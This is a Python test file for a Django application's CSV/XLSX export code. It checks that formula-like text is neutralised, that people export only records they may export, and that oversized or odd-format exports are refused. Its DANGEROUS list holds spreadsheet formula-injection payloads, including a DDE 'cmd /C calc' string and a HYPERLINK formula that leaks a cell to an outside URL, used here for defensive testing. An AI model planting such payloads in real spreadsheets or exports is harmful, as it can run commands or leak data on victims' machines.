"""Files of records: only what may be exported, and nothing that a spreadsheet would run."""

from datetime import date
from io import BytesIO

import pytest
import time_machine
from django.http import Http404
from python_calamine import CalamineWorkbook

from renkei.charter.text import Text
from renkei.core.errors import Refused
from renkei.core.models import Job
from renkei.core.rights import Asker, Columns, Reach, RecordKind, kind_of, rules
from renkei.core.rights import kinds as register
from renkei.core.tables import Column, Table, as_csv, as_xlsx
from renkei.core.tables import export as module
from renkei.core.tables.export import Exported, export
from renkei.core.tables.readability import machine_readability_problems

TITLE = Text("処理", "Work")
NAME, NUMBER = Column("name", Text("名称", "Name")), Column("n", Text("数", "Number"))
OWNER = Asker(person="owner")

DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?q="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "＝1+1",
    "＋81",
    "−1+1",
]


def table(cell, number=1):
    return Table(TITLE, (NAME, NUMBER), [(cell, number)])


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_looks_like_a_formula_stands_behind_an_apostrophe_in_csv(text):
    content = as_csv(table(text), is_free_text=True)

    row = content.decode("utf-8-sig").splitlines()[1]
    assert row.lstrip('"').startswith("'" + text.strip()[0])


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_looks_like_a_formula_is_text_in_xlsx(text):
    content = as_xlsx(table(text), ())

    [[_name, _n], [cell, number]] = (
        CalamineWorkbook.from_filelike(BytesIO(content)).get_sheet_by_index(0).to_python()
    )
    assert (cell, number) == (text.strip(), 1.0)
    assert b"<f>" not in content


@pytest.mark.parametrize(
    ("cell", "written"),
    [(-5, "-5"), (-0.5, "-0.5"), (date(2026, 4, 1), "2026-04-01"), (None, ""), ("甲-乙", "甲-乙")],
)
def test_numbers_dates_and_plain_text_are_written_as_they_are(cell, written):
    content = as_csv(table(cell, None), is_free_text=True)

    assert content.decode("utf-8-sig").splitlines()[1] == f"{written},"


def test_text_of_official_tables_is_not_touched():
    assert as_csv(table("-")).decode("utf-8-sig").splitlines()[1] == "-,1"


# --- records ---------------------------------------------------------------------------------


COLUMNS = (
    Exported(NAME, lambda job: job.title_ja),
    Exported(NUMBER, lambda job: job.total),
)


@pytest.fixture
def exportable(monkeypatch):
    """As if each could export her own work."""
    kind = kind_of(Job)
    opened = rules(Reach.SELF, "export", "signed_in")
    changed = RecordKind(
        name=kind.name,
        label=kind.label,
        model=kind.model,
        columns=Columns(person="owner"),
        rules=(*kind.rules, *opened),
        title=kind.title,
        address=kind.address,
    )
    monkeypatch.setitem(register.__globals__["_KINDS"], "job", changed)


def work(title: str, owner: str = "owner") -> Job:
    return Job.objects.create(kind="k", title_ja=title, title_en=title, owner=owner, total=3)


@pytest.mark.django_db
def test_file_holds_what_the_person_may_export_and_nothing_else(exportable):
    work("=1+1")
    work("秘密", owner="other")

    with time_machine.travel("2026-11-24T16:00:00Z"):
        response = export(
            Job.objects.all(), COLUMNS, by=OWNER, title=TITLE, name="jobs", kind="csv"
        )

    assert response.content.decode("utf-8-sig") == "名称,数\r\n'=1+1,3\r\n"
    assert response["Content-Disposition"] == 'attachment; filename="jobs-2026-11-25.csv"'
    assert machine_readability_problems(response.content) == []


@pytest.mark.django_db
def test_what_may_be_read_but_not_exported_is_not_in_the_file():
    work("甲")

    response = export(Job.objects.all(), COLUMNS, by=OWNER, title=TITLE, name="jobs", kind="csv")

    assert response.content.decode("utf-8-sig") == "名称,数\r\n"


@pytest.mark.django_db
def test_file_is_made_with_one_query(exportable, django_assert_num_queries):
    for n in range(3):
        work(f"{n}番")

    with django_assert_num_queries(1):
        export(Job.objects.all(), COLUMNS, by=OWNER, title=TITLE, name="jobs", kind="xlsx")


@pytest.mark.django_db
def test_too_many_records_are_refused(exportable, monkeypatch):
    monkeypatch.setattr(module, "MOST_ROWS", 1)
    work("甲")
    work("乙")

    with pytest.raises(Refused, match="絞り込んで"):
        export(Job.objects.all(), COLUMNS, by=OWNER, title=TITLE, name="jobs", kind="csv")


@pytest.mark.django_db
def test_other_kinds_of_file_are_not_there(exportable):
    with pytest.raises(Http404):
        export(Job.objects.all(), COLUMNS, by=OWNER, title=TITLE, name="jobs", kind="exe")
